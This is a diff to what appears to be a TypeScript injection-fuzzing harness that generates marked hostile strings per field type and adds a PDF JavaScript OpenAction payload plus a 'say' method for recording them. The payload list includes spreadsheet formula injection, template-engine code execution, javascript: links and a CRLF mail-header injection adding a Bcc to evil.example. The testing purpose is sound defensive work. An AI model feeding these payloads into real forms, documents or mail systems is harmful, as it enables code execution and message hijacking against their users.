@@ -13,7 +13,7 @@ export type Freedom = 'text' | 'line' | 'name' | 'address';
 
 type Phrase = (mark: string) => string;
 
-/** Each would do harm somewhere: in a page, a sheet, a mail's head, a template, a script of data. */
+/** Each would do harm somewhere: in a page, a sheet, a PDF, a mail's head, a template, a script of data. */
 const phrases: Record<Freedom, Phrase[]> = {
   name: [
     (mark) => `=1+1 ${mark}`,
@@ -33,6 +33,7 @@ const phrases: Record<Freedom, Phrase[]> = {
     (mark) => `+1 ${mark} {{constructor.constructor('hit()')()}}`,
     (mark) => `-2+3 ${mark} [x](javascript:hit()) 🚗`,
     (mark) => `javascript:hit('${mark}')//%0d%0aBcc: ${mark}@evil.example`,
+    (mark) => `${mark}) >> /OpenAction << /S /JavaScript /JS (hit()) >> (`,
   ],
   text: [
     (mark) =>
@@ -84,6 +85,14 @@ export class Speech {
       if (joined.length <= most) text = joined;
     }
     return text === '' ? mark.slice(0, most) : text;
+  }
+
+  /** Words for a place that is no field of a call: said, and given as they are to be written. */
+  say(call: string, field: string, freedom: Freedom, maxLength = longest): string {
+    const mark = this.newMark();
+    const text = this.phrase(freedom, maxLength, mark);
+    this.remember({ mark, call, field, text });
+    return text;
   }
 
   remember(...said: Said[]): void {
